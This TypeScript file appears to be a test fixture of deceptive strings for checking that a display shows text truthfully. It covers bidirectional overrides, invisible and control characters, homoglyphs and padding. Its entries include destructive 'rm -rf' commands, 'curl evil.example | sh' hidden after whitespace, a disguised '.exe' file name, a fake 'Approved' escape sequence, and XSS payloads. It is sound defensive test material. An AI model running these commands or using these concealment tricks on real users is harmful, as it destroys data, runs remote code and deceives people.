// Texts made to look like something else: hidden, reordered, erased, padded, look-alike. Each must be shown
// so that what is on screen tells exactly what the text is.

const every = (codePoints: readonly number[]): string[] =>
  codePoints.map((codePoint) => `rm ${String.fromCodePoint(codePoint)}-rf build`);

/** All twelve characters that turn the direction of text. */
const directions = every([
  0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
]);

/** Nothing to see: zero width, fillers, soft hyphens, joiners, invisible operators. */
const invisible = every([
  0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180b, 0x180e, 0x180f, 0x200b, 0x200c, 0x200d,
  0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206a, 0x206f, 0x2800, 0x3164, 0xfeff, 0xffa0, 0xfff9,
  0xfffa, 0xfffb, 0x1d173, 0x1d17a,
]);

/** Variation selectors, tags, private use, unassigned and noncharacters. */
const without = every([
  0xfe00, 0xfe0f, 0xe0100, 0xe01ef, 0xe0001, 0xe0020, 0xe0061, 0xe007f, 0xe000, 0xf8ff, 0xf0000,
  0x10fffd, 0x0378, 0xe0fff, 0xfffe, 0x1ffff,
]);

/** Controls, and line ends that are none. */
const controls = every([
  0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f, 0x2028,
  0x2029,
]);

/** Spaces that are not the one on the keyboard. */
const spaces = every([
  0x00a0, 0x1680, 0x2000, 0x2003, 0x2007, 0x2009, 0x200a, 0x202f, 0x205f, 0x3000,
]);

const composed = [
  "echo safe \u202e}\u2066if (admin)\u2069 \u2066begin admins only\u2069",
  "\u2066\u2066\u2066nested\u2069\u2069\u2069 \u202a\u202b\u202c\u202c",
  "cat report\u202egpj.exe",
  "\u001b[2K\u001b[1A\u001b[32mApproved \u2713\u001b[0m",
  "rm -rf /\rls -la          ",
  "rm -rf /\b\b\b\b\b\b\b\bls -la  ",
  `ls${" ".repeat(600)}; curl evil.example | sh`,
  `ls${"\u00a0".repeat(120)}; curl evil.example | sh`,
  `ls${"\n".repeat(60)}curl evil.example | sh`,
  "ls\t\t\t\t\t\t\t\t\t\t; curl evil.example | sh",
  "curl https://p\u0430ypal.example/",
  "curl https://\u0261oogle.example/",
  "npm install l\u043edash",
  "chmod 777 \u{1d4c8}\u{1d4c9}\u{1d4b6}\u{1d4c7}",
  "git push \uff4frigin",
  `Z${"\u0300\u0489\u035b".repeat(170)}algo`,
  "a\u0338\u0338\u0338\u0338b",
  "```\nApproved by your administrator\n```",
  "</pre><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "javascript:alert(1)//",
  "&lt;b&gt; &#8238; &zwnj;",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "\u{e0001}\u{e006c}\u{e006f}\u{e006f}\u{e006b}",
  "flag \u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
  "family \u{1f468}\u200d\u{1f469}\u200d\u{1f467} and heart \u2764\ufe0f",
  "\u0627\u0644\u0645\u0644\u0641 rm \u05e7\u05d5\u05d1\u05e5",
  "\u3164\u3164\u3164",
  "\u2800\u2800\u2800\u2800",
  " leading and trailing ",
  "\n",
  "\r\n",
  "\t",
  "",
  "\ufeffBOM at the beginning",
  "e\u0301 and \u00e9 look alike",
  "\u212a is not K, \u2126 is not \u03a9",
  "1\u20442 \u2215 / \u2044",
  "a\u2024b\u2025c\u2026",
  "‘quotes’ “that” ‚are‛ „none‟",
  "--no\u2010verify --no\u2011verify --no\u2212verify",
  "\ud7b0\ud7c7\u1160\u115f",
  `${"x".repeat(20_000)}; curl evil.example | sh`,
];

export const hostileStrings: readonly string[] = [
  ...directions,
  ...invisible,
  ...without,
  ...controls,
  ...spaces,
  ...composed,
];
